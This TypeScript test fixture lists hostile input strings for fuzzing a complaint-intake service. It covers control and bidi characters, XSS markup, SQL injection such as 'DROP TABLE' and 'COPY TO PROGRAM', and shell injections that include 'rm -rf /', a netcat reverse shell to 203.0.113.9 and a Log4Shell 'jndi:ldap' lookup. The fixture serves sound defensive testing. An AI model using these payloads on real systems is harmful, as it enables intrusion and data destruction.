/**
 * Hostile strings, by family. Each is what a citizen (or someone posing as one) can type into a
 * complaint; the corpus sends them through every ingress that takes free text.
 */

export interface HostileText {
  /** A short label for the case name. */
  label: string;
  text: string;
  /** Markup meant to run script on a page that shows the text unescaped. */
  html?: true;
}

const hex = (code: number) => `U+${code.toString(16).toUpperCase().padStart(4, '0')}`;
const around = (s: string) => `Jalan berlubang${s} di depan SDN 01, mohon diperbaiki`;

/** Every C0 control character and DEL, NUL first: PostgreSQL text cannot hold NUL at all. */
export const CONTROL = [...Array.from({ length: 32 }, (_, i) => i), 0x7f].map((code): HostileText => ({
  label: `control ${hex(code)}`,
  text: around(String.fromCharCode(code)),
}));

/** Bidirectional overrides and isolates (Trojan Source), and the marks that steer them. */
export const BIDI = [
  0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c,
].map((code): HostileText => ({
  label: `bidi ${hex(code)}`,
  text: around(`${String.fromCharCode(code)}gnalaj`),
}));

/** Invisible characters, also the ones that split a phone number past a redaction. */
export const INVISIBLE = [0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x180e, 0x2028, 0x2029].map(
  (code): HostileText => ({
    label: `invisible ${hex(code)}`,
    text: around(` 0812${String.fromCharCode(code)}3456${String.fromCharCode(code)}7890`),
  }),
);

/** The i-th payload of a family, inside an ordinary complaint. */
const payload = (family: string, s: string, i: number): HostileText => ({
  label: `${family} ${i + 1}`,
  text: around(` ${s}`),
});

/** Script a page could run; each sets `window.__pwned` so a browser shows whether it ran. */
export const MARKUP: HostileText[] = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"></svg>',
  '"><script>window.__pwned=1</script>',
  "'><img src=x onerror=window.__pwned=1>",
  '</textarea></title><script>window.__pwned=1</script>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<a href="javascript:window.__pwned=1" id=x>klik</a>',
  '<details open ontoggle="window.__pwned=1">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '{{constructor.constructor("window.__pwned=1")()}}',
  '<body onload="window.__pwned=1">',
].map((s, i) => ({ ...payload('markup', s, i), html: true as const }));

/** SQL that would do harm if anything built a query by concatenation. */
export const SQL: HostileText[] = [
  "'; DROP TABLE reports; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(30); --',
  "$$; COPY (SELECT '') TO PROGRAM 'id'; $$",
  "\\'); DELETE FROM report_transitions; --",
  "E'\\x00'",
].map((s, i) => payload('sql', s, i));

/** Shell, template and format-string metacharacters. */
export const SHELL: HostileText[] = [
  '$(touch /tmp/aduan-pwned)',
  '`id > /tmp/aduan-pwned`',
  '; rm -rf / #',
  '| nc 203.0.113.9 4444 -e /bin/sh',
  '%s%s%s%s%n%n',
  '${jndi:ldap://203.0.113.9/a}',
  '${7*7}#{7*7}<%= 7*7 %>',
].map((s, i) => payload('shell', s, i));

/** Unicode at its edges: a lone surrogate, stacked combining marks, non-characters, astral. */
export const UNICODE: HostileText[] = [
  { label: 'lone high surrogate', text: around(' \ud800 ') },
  { label: 'lone low surrogate', text: around(' \udfff ') },
  { label: 'combining marks', text: around(` Z${'\u0301'.repeat(3000)}`) },
  { label: 'non-characters', text: around(' \ufffe\uffff\ufdd0 ') },
  { label: 'astral and emoji', text: around(' 🕳️🚧𝕁𝕒𝕝𝕒𝕟 ') },
  { label: 'replacement characters', text: around(' \ufffd\ufffd ') },
];

/** Every family, for the ingress that takes free text from anyone. */
export const ALL_TEXTS: HostileText[] = [
  ...CONTROL,
  ...BIDI,
  ...INVISIBLE,
  ...MARKUP,
  ...SQL,
  ...SHELL,
  ...UNICODE,
];

/** A smaller selection for the ingresses that need a credential first (officers, client apps). */
export const SOME_TEXTS: HostileText[] = [
  CONTROL[0]!,
  CONTROL[8]!,
  CONTROL[27]!,
  BIDI[4]!,
  INVISIBLE[0]!,
  ...MARKUP.slice(0, 4),
  SQL[0]!,
  SHELL[0]!,
  UNICODE[0]!,
];
